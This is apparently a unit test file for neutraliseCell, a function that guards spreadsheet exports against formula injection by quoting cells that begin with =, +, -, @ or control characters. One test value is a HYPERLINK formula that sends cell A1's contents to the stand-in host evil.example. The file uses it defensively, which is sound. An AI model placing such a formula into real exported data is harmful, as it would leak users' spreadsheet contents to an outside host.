import { neutraliseCell } from './formula';

describe('neutraliseCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=1+2',
    '+1+2',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+2',
    '\r=1+2',
  ])('prefixes a single quote to %j so it stays text', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it.each(['plain words', '', ' =1 (starts with a space)', '1-2', "'already quoted", 'a=b', 'é'])(
    'leaves %j unchanged',
    (value) => {
      expect(neutraliseCell(value)).toBe(value);
    },
  );
});
